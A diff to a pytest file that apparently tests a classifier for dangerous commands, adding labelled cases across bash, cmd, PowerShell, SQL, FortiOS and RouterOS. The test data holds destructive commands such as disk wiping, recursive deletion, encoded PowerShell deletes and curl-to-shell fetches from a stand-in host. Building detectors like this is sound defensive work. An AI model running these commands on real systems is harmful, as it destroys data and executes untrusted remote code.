@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import base64
+
 import pytest
 
 from rfdesktop.app.shield_loading import load_shield
@@ -353,6 +355,62 @@ RUN_BY_OTHERS = [
     ("bash", "sudo", "none"),
 ]
 
+AS_IT_IS_STARTED = [
+    ("cmd", "(echo select disk 1& echo clean& echo rem:(x))| diskpart", "destructive"),
+    ("cmd", 'if exist a start "Title" shutdown /r /t 0', "caution"),
+    ("cmd", 'if exist a start "Title" notepad', "none"),
+    ("cmd", 'if exist a start "Title" del /s /q C:\\Data', "destructive"),
+    ("cmd", 'echo start "del" x', "none"),
+    ("bash", "docker exec -- app rm -rf /x", "destructive"),
+    ("bash", "kubectl exec -- web rm -rf /x", "destructive"),
+    ("bash", "tmux send-keys -t a 'rm -rf /srv'", "destructive"),
+    ("bash", "tmux send-keys reboot Enter", "none"),
+    ("bash", "screen -S a -X stuff 'rm -rf /srv\\n'", "destructive"),
+    ("bash", "screen -dm rm", "none"),
+    ("bash", "nice 10 rm -rf /srv", "destructive"),
+    ("bash", "nice ls", "none"),
+    ("bash", "bash <(curl -s https://x.example/a.sh)", "destructive"),
+    ("bash", "python3 <(curl https://x.example/a.py)", "destructive"),
+    ("bash", "source <(wget -qO- https://x.example/a)", "destructive"),
+    ("bash", "python3 a.py < b.txt", "none"),
+]
+
+IN_SQL = [
+    ("sql", "WITH x AS (DELETE FROM a RETURNING *) SELECT * FROM x", "destructive"),
+    ("sql", "WITH x AS (DELETE FROM a WHERE id = 1 RETURNING *) SELECT * FROM x", "caution"),
+    (
+        "sql",
+        "WITH x AS (SELECT 1), y AS MATERIALIZED (UPDATE t SET a = (SELECT 1) RETURNING a) SELECT 1",
+        "destructive",
+    ),
+    ("sql", "WITH x AS (SELECT a FROM b) SELECT * FROM x", "none"),
+    ("sql", "WITH x AS (SELECT id FROM (SELECT 1) y) DELETE FROM x", "destructive"),
+    ("sql", "DECLARE @s nvarchar(max) = N'DELETE FROM a'; EXEC (@s)", "destructive"),
+    ("sql", "DECLARE @s sysname = 'DROP TABLE a'; PRINT @s", "none"),
+    ("sql", "DECLARE @s nvarchar(9) = 'DROP TABLE a'; UPDATE t SET a = @s WHERE id = 1", "caution"),
+    ("sql", "EXEC sp_executesql @s", "caution"),
+    ("powershell", "robocopy a b /MIR -WhatIf", "none"),
+    ("cmd", "robocopy a b /MIR -WhatIf", "destructive"),
+]
+
+BY_VERB = [
+    ("powershell", "Grant-FooThing -Name x", "caution"),
+    ("powershell", "Disable-FooThing x", "caution"),
+    ("powershell", "Purge-FooThing x", "destructive"),
+    ("powershell", "Restart-FooThing x", "caution"),
+    ("powershell", "Get-FooThing x", "none"),
+    ("powershell", "Name    Value\n----    -----\nfoo     shutdown\n", "none"),
+    ("powershell", "Name    Value\n----    -----\nfoo     shutdown\nStop-Computer    -Force", "destructive"),
+]
+
+BELOW_WHAT_IS_OPEN = [
+    ("fortios", "config system interface\nedit port1\nset status down\nend", "destructive"),
+    ("fortios", "config system interface\nend\nset status down", "caution"),
+    ("routeros", "/interface\nfoo\ndisable ether1", "destructive"),
+    ("routeros", "/interface\ndisable ether1", "destructive"),
+    ("routeros", "foo\ndisable ether1", "caution"),
+]
+
 _CLOSED = "ip access-list extended BLOCK\n deny ip any any\n"
 _UP = "interface Gi0/1\n ip access-group BLOCK in\n"
 
@@ -397,6 +455,10 @@ LISTS_PUT_UP = [
         *LISTS_PUT_UP,
         *RUN_BY_OTHERS,
         *UNDER_A_CONDITION,
+        *AS_IT_IS_STARTED,
+        *BY_VERB,
+        *IN_SQL,
+        *BELOW_WHAT_IS_OPEN,
     ],
 )
 def test_a_kind_is_judged_by_what_it_does(shell: str, text: str, level: str) -> None:
@@ -424,3 +486,77 @@ def test_what_is_still_to_be_filled_in_is_told_of_all_but_the_longest_texts() ->
     text = "rm -rf /srv/<FOLDER> # "
     for length, remarks in ((LONGEST, (Remark.PLACEHOLDER,)), (LONGEST + 1, ())):
         assert _SHIELD.judge("bash", text.ljust(length, "x")).remarks == remarks
+
+
+def test_a_folder_tells_nothing_of_what_a_program_does() -> None:
+    for text, command in (("/opt/x/mkfs.ext4 /dev/sda", "mkfs.ext4"), ("/opt/x/Format.COM d: /q", "format")):
+        for shell in ("bash", "cmd"):
+            reason = _SHIELD.judge(shell, text.replace("/opt/x/", "C:\\x\\") if shell == "cmd" else text).reason
+            assert reason is not None
+            assert reason.command == command
+
+
+def test_what_is_encoded_is_read_with_its_end_or_without() -> None:
+    for text in ("rm -rf /srv", "rm -rf /srv/a", "rm -rf /srv/ab"):
+        whole = base64.b64encode(text.encode("utf-16-le")).decode()
+        for form in (whole, whole.rstrip("=")):
+            verdict = _SHIELD.judge("powershell", f"powershell -enc {form}")
+            assert verdict.danger.value == "destructive"
+            assert Remark.ENCODED in verdict.remarks
+
+
+@pytest.mark.parametrize(
+    ("text", "command"),
+    [
+        *(
+            (f"{runner} rm -rf /a", "rm")
+            for runner in (
+                *(
+                    "timeout -k 5 10",
+                    "sudo -iu root",
+                    "sudo -ugroup",
+                    "sudo --user root",
+                    "sudo --user=root",
+                    "env A=b",
+                ),
+                *(
+                    "nice",
+                    "nice -n 5",
+                    "nice 5",
+                    "runuser -u www",
+                    "chroot /mnt",
+                    "flock /l",
+                    "foo a b c d e",
+                    "foo --",
+                ),
+                *("xargs -n 1", "psexec @list -u adm", "stdbuf -oL", "time", "sudo -u root env A=b nice -n 5"),
+            )
+        ),
+        *((f"{runner} 'rm -rf /a'", "rm") for runner in ("runuser www -c", "sg adm -c", "flock /l -c", "watch -n 2")),
+        ("timeout 5 reboot", "reboot"),
+        ("find . -exec ls {} + -o -exec rm -rf {} \\;", "rm"),
+        ("find . -exec ls {} + -delete", "find"),
+        ("trap 'rm -rf /a' EXIT", "rm"),
+        ("awk '{ system(\"rm -rf /a\") }' f", "rm"),
+        # Farther from its name, only the words tell.
+        ("foo a b c d e f rm -rf /a", "foo"),
+        ("foo rm", "foo"),
+        ("sudo", None),
+        ("man rm -rf /a", None),
+        ("trap '' INT", None),
+    ],
+)
+def test_what_a_program_starts_is_named(text: str, command: str | None) -> None:
+    reason = _SHIELD.judge("bash", text).reason
+    assert (reason and reason.command) == command
+
+
+def test_what_a_text_writes_into_a_script_is_what_runs() -> None:
+    for text, command in (
+        ("cat > s.txt <<E\nselect disk 1\nclean\nE\ndiskpart /s s.txt", "clean"),
+        ("foo <<E\nclean\nE\ndiskpart /s s.txt", "diskpart"),
+        ("echo clean > s.txt; diskpart /s s.txt", "clean"),
+    ):
+        reason = _SHIELD.judge("bash", text).reason
+        assert reason is not None
+        assert reason.command == command
